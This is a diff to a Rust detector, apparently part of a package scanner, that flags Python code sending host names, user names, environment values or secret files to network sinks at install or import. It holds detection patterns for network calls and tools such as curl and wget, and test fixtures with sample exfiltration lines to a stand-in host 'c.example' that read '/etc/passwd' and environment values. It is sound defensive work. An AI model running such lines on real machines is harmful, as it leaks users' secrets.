@@ -31,6 +31,10 @@
 //! sources' kinds along the edges; each expression is read at most [`MAX_EXPR`] bytes, at most
 //! [`MAX_STATEMENTS`] statements, [`MAX_CALLS`] call sites and [`MAX_SINKS`] sinks are kept.
 //!
+//! Cheapest rejections first: a member without a source literal, then without a source in code
+//! (or a secret path in a string), is left before its sinks are searched and asked whether they
+//! run on import; the flow's lookups skip identifiers no tainted name can be (a word filter).
+//!
 //! Must not: report where the sink does not run at install or import, or cache anything
 //! across members.
 
@@ -39,6 +43,7 @@ use crate::model::{Category, FileRole, Severity};
 use crate::scan::detector::{Detector, DetectorMeta, Hit, Hits, Interest, TextFile};
 use crate::scan::roles;
 use regex::Regex;
+use std::cell::OnceCell;
 use std::collections::{HashMap, HashSet};
 use std::sync::LazyLock;
 
@@ -101,20 +106,25 @@ static READS: LazyLock<Regex> = LazyLock::new(|| {
 /// 3: raw sends (socket, SMTP, FTP); 4: DNS look-ups; 5: processes (counted when the command
 /// names a network tool); 6: downloads (only the URL is sent); 7: bare `get`/`post`/`put`
 /// (counted when the member imports them from an HTTP client).
-static SINK: LazyLock<Regex> = LazyLock::new(|| {
-    Regex::new(concat!(
-        r"(?-u:\b)(?:",
-        r"(requests\.(?:get|post|put|patch|delete|head|options)|httpx\.(?:get|post|put|patch|delete|stream)|urlopen|urllib\.request\.Request|urllib2\.Request|Request|\.post|\.put|\.patch)",
-        r"|(requests\.request|httpx\.request|\.request)",
-        r"|(\.sendall|\.sendto|\.send|\.sendmail|\.send_message|\.storbinary|\.storlines)",
-        r"|(gethostbyname_ex|gethostbyname|getaddrinfo|resolver\.resolve|resolver\.query)",
-        r"|(subprocess\.(?:Popen|call|check_call|check_output|run)|os\.system|os\.popen)",
-        r"|(urlretrieve|wget\.download)",
-        r")\s*\(",
-        r"|(?m:^|[^.\w])(get|post|put)\s*\(",
-    ))
-    .expect("sink regex")
-});
+static SINK: LazyLock<Regex> =
+    LazyLock::new(|| Regex::new(&format!(r"{SINK_CALLS}|(?m:^|[^.\w])(get|post|put)\s*\(")).expect("sink regex"));
+/// Groups 1 to 6 of [`SINK`].
+const SINK_CALLS: &str = concat!(
+    r"(?-u:\b)(?:",
+    r"(requests\.(?:get|post|put|patch|delete|head|options)|httpx\.(?:get|post|put|patch|delete|stream)|urlopen|urllib\.request\.Request|urllib2\.Request|Request|\.post|\.put|\.patch)",
+    r"|(requests\.request|httpx\.request|\.request)",
+    r"|(\.sendall|\.sendto|\.send|\.sendmail|\.send_message|\.storbinary|\.storlines)",
+    r"|(gethostbyname_ex|gethostbyname|getaddrinfo|resolver\.resolve|resolver\.query)",
+    r"|(subprocess\.(?:Popen|call|check_call|check_output|run)|os\.system|os\.popen)",
+    r"|(urlretrieve|wget\.download)",
+    r")\s*\(",
+);
+/// [`SINK`] without the bare `get`/`post`/`put` (group 7), for members that import none: its
+/// matches are exactly [`SINK`]'s matches of groups 1 to 6 (no match of either part can start
+/// inside a match of groups 1 to 6 but at its last `(`, where a bare call is not one anyway, and
+/// none of groups 1 to 6 inside a bare call), and unlike [`SINK`] it starts with literals the
+/// regex crate skips ahead to. Tested equal (`find_sinks_is_the_whole_search`).
+static SINK_CALLS_ONLY: LazyLock<Regex> = LazyLock::new(|| Regex::new(SINK_CALLS).expect("sink calls"));
 
 /// A network tool in a command line.
 static NET_TOOL: LazyLock<Regex> = LazyLock::new(|| {
@@ -209,7 +219,18 @@ impl Detector for SourceToSink {
             FileRole::Runtime if roles::is_imported_module(file.path) => false,
             _ => return,
         };
+        // Cheapest rejections first (every step below is pure, so the order does not change what
+        // is reported): without a source literal, and then without a source in code (or a secret
+        // path in a string), nothing carries data of this machine to any sink; only then are the
+        // sinks searched and each asked whether it runs on import (the member's import map).
+        if !SOURCE.is_match(file.text) && !FILE_LITERAL.is_match(file.text) {
+            return;
+        }
         let src = file.source();
+        let sources = sources(src);
+        if !sources.iter().any(|&(_, k)| k & (SENT | FILE) != 0) {
+            return;
+        }
         let sinks = find_sinks(src);
         if sinks.is_empty() {
             return;
@@ -217,10 +238,10 @@ impl Detector for SourceToSink {
         // Only sinks that run: at install everything; in a module, what runs on import.
         let running: Vec<(usize, usize, SinkKind)> =
             if everywhere { sinks } else { sinks.into_iter().filter(|&(o, _, _)| runs_on_import(src, o)).collect() };
-        if running.is_empty() || !SOURCE.is_match(src.text) && !FILE_LITERAL.is_match(src.text) {
+        if running.is_empty() {
             return;
         }
-        let flow = Flow::new(src);
+        let flow = Flow::new(src, sources);
         let mut reported = 0;
         for (offset, after_paren, kind) in running {
             if reported >= MAX_HITS_PER_FILE {
@@ -241,31 +262,37 @@ impl Detector for SourceToSink {
 /// Sinks in code: (offset of the name, offset just after `(`, kind), at most [`MAX_SINKS`].
 fn find_sinks(src: &Source<'_>) -> Vec<(usize, usize, SinkKind)> {
     let text = src.text;
-    let raw_ok = ["socket", "smtplib", "SMTP", "ftplib", "FTP"].iter().any(|w| text.contains(w));
-    let method_ok = ["requests", "httpx", "aiohttp", "urllib3", "http.client", "HTTPConnection", "HTTPSConnection"]
-        .iter()
-        .any(|w| text.contains(w));
-    let bare_ok = ["from requests import", "from httpx import"].iter().any(|w| text.contains(w));
-    let request_ok = text.contains("urllib") || text.contains("Request");
+    let holds = |words: &[&str]| words.iter().any(|w| memchr::memmem::find(text.as_bytes(), w.as_bytes()).is_some());
+    // Each asked only when a match needs it (most members need one or two).
+    let (raw_ok, method_ok, request_ok) = (OnceCell::new(), OnceCell::new(), OnceCell::new());
+    let raw_ok = || *raw_ok.get_or_init(|| holds(&["socket", "smtplib", "SMTP", "ftplib", "FTP"]));
+    let method_ok = || {
+        *method_ok.get_or_init(|| {
+            holds(&["requests", "httpx", "aiohttp", "urllib3", "http.client", "HTTPConnection", "HTTPSConnection"])
+        })
+    };
+    let request_ok = || *request_ok.get_or_init(|| holds(&["urllib", "Request"]));
+    let bare_ok = holds(&["from requests import", "from httpx import"]);
+    let sinks: &Regex = if bare_ok { &SINK } else { &SINK_CALLS_ONLY };
     let mut out = Vec::new();
-    for c in SINK.captures_iter(text) {
+    for c in sinks.captures_iter(text) {
         if out.len() >= MAX_SINKS {
             break;
         }
         let whole = c.get(0).expect("match");
         let (g, kind) = if let Some(g) = c.get(1) {
             let n = g.as_str();
-            if n.starts_with('.') && !method_ok || n == "Request" && !request_ok {
+            if n.starts_with('.') && !method_ok() || n == "Request" && !request_ok() {
                 continue;
             }
             (g, SinkKind::Http(0))
         } else if let Some(g) = c.get(2) {
-            if g.as_str().starts_with('.') && !method_ok {
+            if g.as_str().starts_with('.') && !method_ok() {
                 continue;
             }
             (g, SinkKind::Http(1))
         } else if let Some(g) = c.get(3) {
-            if !raw_ok {
+            if !raw_ok() {
                 continue;
             }
             (g, SinkKind::Raw)
@@ -329,42 +356,23 @@ struct Flow<'s, 't> {
     sources: Vec<(usize, u8)>,
     reads: Vec<usize>,
     taint: HashMap<(&'t str, &'t str), u8>,
+    /// The words a lookup in `taint` can find (kept with it), so that most identifiers of an
+    /// expression are passed over without hashing.
+    tainted: WordFilter,
     /// For each sink offset, the scope its code is in (looked up through `scope_at`).
     scope_starts: Vec<(usize, usize, &'t str)>,
 }
 
 impl<'s, 't> Flow<'s, 't> {
-    fn new(src: &'s Source<'t>) -> Self {
+    /// The flow from `sources` (what [`sources`] found) and the network tools named in strings.
+    fn new(src: &'s Source<'t>, sources: Vec<(usize, u8)>) -> Self {
+        Self::with_filter(src, sources, WordFilter::default())
+    }
+
+    /// [`Flow::new`] with `tainted` starting as given (tests: every word, so every identifier is
+    /// looked up).
+    fn with_filter(src: &'s Source<'t>, mut sources: Vec<(usize, u8)>, tainted: WordFilter) -> Self {
         let text = src.text;
-        let mut sources = Vec::new();
-        for c in SOURCE.captures_iter(text) {
-            let m = c.get(0).expect("match");
-            // A what-is-my-IP service is named in a string; every other source is code.
-            let in_string = c.get(6).is_some() && src.kind_at(m.start()) == Kind::Str;
-            if !in_string && !live(src, m.start()) {
-                continue;
-            }
-            if c.get(1).is_some_and(|g| g.as_str().ends_with("uname")) && os_family_only(&text[m.end()..]) {
-                continue;
-            }
-            let kind = if c.get(1).is_some() || c.get(6).is_some() {
-                HOST
-            } else if c.get(2).is_some() {
-                USER
-            } else if c.get(3).is_some() {
-                PATH
-            } else if c.get(4).is_some() {
-                DATA
-            } else {
-                ENV
-            };
-            sources.push((m.start(), kind));
-        }
-        for m in FILE_LITERAL.find_iter(text) {
-            if src.kind_at(m.start()) == Kind::Str {
-                sources.push((m.start(), FILE));
-            }
-        }
         for m in NET_TOOL.find_iter(text) {
             if src.kind_at(m.start()) == Kind::Str {
                 sources.push((m.start(), TOOL));
@@ -376,7 +384,7 @@ impl<'s, 't> Flow<'s, 't> {
         // Function bodies with their names, for the scope of an offset (innermost def).
         let scope_starts: Vec<(usize, usize, &'t str)> =
             scopes.iter().filter(|s| s.def).map(|s| (s.body.0, s.body.1, &text[s.name.0..s.name.1])).collect();
-        let mut flow = Flow { src, sources, reads, taint: HashMap::new(), scope_starts };
+        let mut flow = Flow { src, sources, reads, taint: HashMap::new(), tainted, scope_starts };
         flow.propagate();
         flow
     }
@@ -430,6 +438,9 @@ impl<'s, 't> Flow<'s, 't> {
                     *slot |= bits;
                     changed = true;
                 }
+                // The word `kinds` looks this key up by: a name, or a function's name for its
+                // returned value.
+                self.tainted.insert(if e.name == RETURN { e.scope } else { e.name });
             }
             if !changed {
                 break;
@@ -534,14 +545,20 @@ impl<'s, 't> Flow<'s, 't> {
             while j < end && is_ident(b[j]) {
                 j += 1;
             }
-            if b[s].is_ascii_digit() || !live(self.src, s) {
+            let w = &text[s..j];
+            // The filter first (most words carry nothing), the lookups, then whether the word
+            // is code: the same bits as asking in the opposite order.
+            if b[s].is_ascii_digit() || !self.tainted.may_hold(w) {
                 continue;
             }
-            let w = &text[s..j];
+            let mut found = 0;
             for key in [(scope, w), (MODULE, w), (w, RETURN)] {
                 if let Some(&k) = self.taint.get(&key) {
-                    bits |= k;
+                    found |= k;
                 }
+            }
+            if found != 0 && live(self.src, s) {
+                bits |= found;
             }
         }
         if bits & (PATH | FILE) != 0 {
@@ -600,6 +617,70 @@ impl<'s, 't> Flow<'s, 't> {
             return None;
         }
         (bits != 0).then(|| describe(bits))
+    }
+}
+
+/// Source occurrences in code or f-strings (a what-is-my-IP service also in a string) and secret
+/// path literals in strings: (offset, kind bits), in text order within each kind.
+fn sources(src: &Source<'_>) -> Vec<(usize, u8)> {
+    let text = src.text;
+    let mut sources = Vec::new();
+    for c in SOURCE.captures_iter(text) {
+        let m = c.get(0).expect("match");
+        // A what-is-my-IP service is named in a string; every other source is code.
+        let in_string = c.get(6).is_some() && src.kind_at(m.start()) == Kind::Str;
+        if !in_string && !live(src, m.start()) {
+            continue;
+        }
+        if c.get(1).is_some_and(|g| g.as_str().ends_with("uname")) && os_family_only(&text[m.end()..]) {
+            continue;
+        }
+        let kind = if c.get(1).is_some() || c.get(6).is_some() {
+            HOST
+        } else if c.get(2).is_some() {
+            USER
+        } else if c.get(3).is_some() {
+            PATH
+        } else if c.get(4).is_some() {
+            DATA
+        } else {
+            ENV
+        };
+        sources.push((m.start(), kind));
+    }
+    for m in FILE_LITERAL.find_iter(text) {
+        if src.kind_at(m.start()) == Kind::Str {
+            sources.push((m.start(), FILE));
+        }
+    }
+    sources
+}
+
+/// A set of words that may answer "maybe" for a word it does not hold (never "no" for one it
+/// does): 4,096 bits keyed by a word's length and its first and last bytes.
+struct WordFilter([u64; 64]);
+
+impl Default for WordFilter {
+    fn default() -> Self {
+        WordFilter([0; 64])
+    }
+}
+
+impl WordFilter {
+    fn bit(w: &str) -> usize {
+        let b = w.as_bytes();
+        match (b.first(), b.last()) {
+            (Some(&f), Some(&l)) => ((f as usize * 33 + l as usize) * 16 + (b.len() & 15)) & 4095,
+            _ => 0,
+        }
+    }
+    fn insert(&mut self, w: &str) {
+        let i = Self::bit(w);
+        self.0[i / 64] |= 1 << (i % 64);
+    }
+    fn may_hold(&self, w: &str) -> bool {
+        let i = Self::bit(w);
+        self.0[i / 64] & (1 << (i % 64)) != 0
     }
 }
 
@@ -1003,6 +1084,243 @@ mod tests {
     fn the_evidence_names_what_is_sent_and_the_sink() {
         let got = module("import socket, getpass, requests\nrequests.post('https://c.example', data={'h': socket.gethostname(), 'u': getpass.getuser()})\n");
         assert_eq!(got, vec!["host name, user name -> requests.post".to_string()]);
+    }
+
+    /// (line, column, indicator) of each hit.
+    fn hits_of(path: &str, role: FileRole, text: &str) -> Vec<(u32, u32, String)> {
+        let file = TextFile::new(path, role, true, text);
+        let mut hits = Hits::default();
+        SourceToSink.scan_text(&file, &mut hits);
+        hits.iter()
+            .map(|(_, h)| {
+                let e = &h.evidence;
+                (e.line.unwrap_or(0), e.column.unwrap_or(0), e.indicator.clone().unwrap_or_default())
+            })
+            .collect()
+    }
+
+    /// The sinks as the detector found them before: [`SINK`] searched whole, every word looked
+    /// for up front.
+    fn find_sinks_whole(src: &Source<'_>) -> Vec<(usize, usize, SinkKind)> {
+        let text = src.text;
+        let raw_ok = ["socket", "smtplib", "SMTP", "ftplib", "FTP"].iter().any(|w| text.contains(w));
+        let method_ok = ["requests", "httpx", "aiohttp", "urllib3", "http.client", "HTTPConnection", "HTTPSConnection"]
+            .iter()
+            .any(|w| text.contains(w));
+        let bare_ok = ["from requests import", "from httpx import"].iter().any(|w| text.contains(w));
+        let request_ok = text.contains("urllib") || text.contains("Request");
+        let mut out = Vec::new();
+        for c in SINK.captures_iter(text) {
+            if out.len() >= MAX_SINKS {
+                break;
+            }
+            let whole = c.get(0).expect("match");
+            let (g, kind) = if let Some(g) = c.get(1) {
+                let n = g.as_str();
+                if n.starts_with('.') && !method_ok || n == "Request" && !request_ok {
+                    continue;
+                }
+                (g, SinkKind::Http(0))
+            } else if let Some(g) = c.get(2) {
+                if g.as_str().starts_with('.') && !method_ok {
+                    continue;
+                }
+                (g, SinkKind::Http(1))
+            } else if let Some(g) = c.get(3) {
+                if !raw_ok {
+                    continue;
+                }
+                (g, SinkKind::Raw)
+            } else if let Some(g) = c.get(4) {
+                (g, SinkKind::Dns)
+            } else if let Some(g) = c.get(5) {
+                (g, SinkKind::Process)
+            } else if let Some(g) = c.get(6) {
+                (g, SinkKind::Download)
+            } else if let Some(g) = c.get(7) {
+                if !bare_ok {
+                    continue;
+                }
+                (g, SinkKind::Http(0))
+            } else {
+                continue;
+            };
+            let start = g.start();
+            let b = text.as_bytes();
+            if start > 0 && g.as_str() == "Request" && (b[start - 1] == b'.' || is_ident(b[start - 1])) {
+                continue;
+            }
+            if !src.is_code(start) || pysrc::is_definition(text, start) {
+                continue;
+            }
+            out.push((start, whole.end(), kind));
+        }
+        out
+    }
+
+    /// The detector's full path, in the order it ran before its cheap rejections: every sink
+    /// found ([`find_sinks_whole`]) and asked whether it runs, then a source literal, then the
+    /// flow with every identifier looked up (no word filter).
+    fn hits_full_path(path: &str, role: FileRole, text: &str) -> Vec<(u32, u32, String)> {
+        let file = TextFile::new(path, role, true, text);
+        if pysrc::test_member(&file) {
+            return Vec::new();
+        }
+        let everywhere = match file.role {
+            FileRole::InstallTime => true,
+            FileRole::Runtime if roles::is_imported_module(file.path) => false,
+            _ => return Vec::new(),
+        };
+        let src = file.source();
+        let sinks = find_sinks_whole(src);
+        let running: Vec<(usize, usize, SinkKind)> =
+            if everywhere { sinks } else { sinks.into_iter().filter(|&(o, _, _)| runs_on_import(src, o)).collect() };
+        if running.is_empty() || !SOURCE.is_match(text) && !FILE_LITERAL.is_match(text) {
+            return Vec::new();
+        }
+        let flow = Flow::with_filter(src, sources(src), WordFilter([u64::MAX; 64]));
+        let mut out = Vec::new();
+        for (offset, after_paren, kind) in running {
+            if out.len() >= MAX_HITS_PER_FILE {
+                break;
+            }
+            if let Some(what) = flow.sends(offset, after_paren, kind) {
+                let name = text[offset..after_paren - 1].trim_end().trim_start_matches('.');
+                let e = pysrc::evidence(&file, offset, format!("{what} -> {name}"));
+                out.push((e.line.unwrap_or(0), e.column.unwrap_or(0), e.indicator.unwrap_or_default()));
+            }
+        }
+        out
+    }
+
+    /// Pieces of modules that send, read sources, define and call functions, hide things in
+    /// strings and comments, and import bare `get`/`post`.
+    const PIECES: &[&str] = &[
+        "import os, socket, requests\n",
+        "from requests import get, post\n",
+        "from httpx import put\n",
+        "import smtplib, urllib.request\n",
+        "\n",
+        "    ",
+        "def f(x, y=1):\n",
+        "def g(d):\n",
+        "async def h():\n",
+        "class C:\n",
+        "if __name__ == '__main__':\n",
+        "return ",
+        "yield ",
+        "for n in ",
+        "with open(p) as fh:\n",
+        "v = ",
+        "w = ",
+        "d['k'] = ",
+        "found.append(",
+        "x",
+        "v",
+        "w",
+        "d",
+        "p",
+        "fh.read()",
+        "f(",
+        "g(",
+        ")",
+        "(",
+        ", ",
+        "data=",
+        "timeout=",
+        "socket.gethostname()",
+        "getpass.getuser()",
+        "os.getcwd()",
+        "os.environ.get('K')",
+        "os.environ['K']",
+        "os.popen('id').read()",
+        "os.path.expanduser('~/.ssh/id_rsa')",
+        "'/etc/passwd'",
+        "platform.uname().system",
+        "requests.post('https://c.example', ",
+        "requests.get(",
+        "get(",
+        "post(",
+        ".post(",
+        ".send(",
+        "s.sendall(",
+        "urllib.request.urlopen(",
+        "Request(",
+        "socket.gethostbyname(",
+        "subprocess.run(['curl', '-d', ",
+        "os.system('wget ' + ",
+        "urlretrieve(",
+        "threading.Thread(target=f).start()\n",
+        "# os.environ requests.post(\n",
+        "'''os.getcwd() get(x)'''\n",
+        "f'{os.getcwd()}'",
+        "'curl'",
+        "+ ",
+        "é",
+        ";",
+    ];
+
+    #[test]
+    fn cheap_rejections_give_what_the_full_path_gives() {
+        type Case<'a> = (&'a str, &'a str, FileRole, &'a str);
+        let cases: &[Case<'_>] = &[
+            ("no source literal: a plain client", "pkg/__init__.py", FileRole::Runtime,
+             "import requests\nrequests.post('https://c.example', data={'a': 1})\n"),
+            ("a source literal only in a comment", "pkg/__init__.py", FileRole::Runtime,
+             "import requests\n# reads os.environ\nrequests.post('https://c.example', data=x)\n"),
+            ("a source only in a docstring", "setup.py", FileRole::InstallTime,
+             "'''Uses socket.gethostname()'''\nimport requests\nrequests.post('https://c.example', data=x)\n"),
+            ("a network tool and no source", "setup.py", FileRole::InstallTime,
+             "import subprocess\nsubprocess.run(['curl', 'https://c.example'])\n"),
+            ("a secret path literal read and sent", "setup.py", FileRole::InstallTime,
+             "import requests\nrequests.post('https://c.example', data=open('/etc/passwd').read())\n"),
+            ("a secret path literal not read", "setup.py", FileRole::InstallTime,
+             "import requests\nrequests.post('https://c.example', data='/etc/passwd')\n"),
+            ("a source and no sink", "pkg/__init__.py", FileRole::Runtime,
+             "import os\nHOME = os.path.expanduser('~')\n"),
+            ("a source and a sink in a function nothing runs", "pkg/__init__.py", FileRole::Runtime,
+             "import os, requests\ndef f():\n    requests.post('https://c.example', data=os.getcwd())\n"),
+            ("a bare get imported and sent the host name", "pkg/__init__.py", FileRole::Runtime,
+             "import socket\nfrom requests import get\nget('https://c.example/?h=' + socket.gethostname())\n"),
+            ("a bare get right after a client call's parenthesis", "pkg/__init__.py", FileRole::Runtime,
+             "import socket\nfrom requests import get\nrequests.post(get(socket.gethostname()))\n"),
+            ("a bare get not imported", "pkg/__init__.py", FileRole::Runtime,
+             "import socket, requests\nget('https://c.example/?h=' + socket.gethostname())\n"),
+            ("a method send without a client import", "pkg/__init__.py", FileRole::Runtime,
+             "import os\nq.post(os.environ['K'])\n"),
+            ("a raw send without sockets", "pkg/__init__.py", FileRole::Runtime,
+             "import os, requests\nch.send(os.environ['K'])\n"),
+            ("names carried through a helper's return and a parameter", "pkg/__init__.py", FileRole::Runtime,
+             "import os, requests\ndef info():\n    return os.getcwd()\ndef send(d):\n    requests.post('https://c.example', data=d)\nsend(info())\n"),
+            ("a tainted name shadowed in another function", "pkg/__init__.py", FileRole::Runtime,
+             "import os, requests\ndef a():\n    v = os.getcwd()\nv = 1\nrequests.post('https://c.example', data=v)\n"),
+            ("a tainted name only in a string", "pkg/__init__.py", FileRole::Runtime,
+             "import os, requests\nv = os.getlogin()\nrequests.post('https://c.example', data='v')\n"),
+        ];
+        for (name, path, role, text) in cases {
+            assert_eq!(hits_of(path, *role, text), hits_full_path(path, *role, text), "{name}");
+        }
+        let mut reported = 0;
+        for (i, text) in pysrc::random_texts(PIECES, 40, 0x2f6b_3c5a_9e1d_47c3, 4000).iter().enumerate() {
+            let (path, role) =
+                if i % 2 == 0 { ("setup.py", FileRole::InstallTime) } else { ("pkg/m.py", FileRole::Runtime) };
+            let got = hits_of(path, role, text);
+            assert_eq!(got, hits_full_path(path, role, text), "{text:?}");
+            reported += usize::from(!got.is_empty());
+        }
+        assert!(reported > 200, "the random texts report: {reported}");
+    }
+
+    #[test]
+    fn find_sinks_is_the_whole_search() {
+        let mut found = 0;
+        for text in pysrc::random_texts(PIECES, 40, 0x7c15_9e37_79b9_4a7f, 4000) {
+            let src = Source::python(&text);
+            let got = find_sinks(&src);
+            assert!(got == find_sinks_whole(&src), "{text:?}");
+            found += got.len();
+        }
+        assert!(found > 4000, "the random texts hold sinks: {found}");
     }
 
     fn time(text: &str) -> Duration {
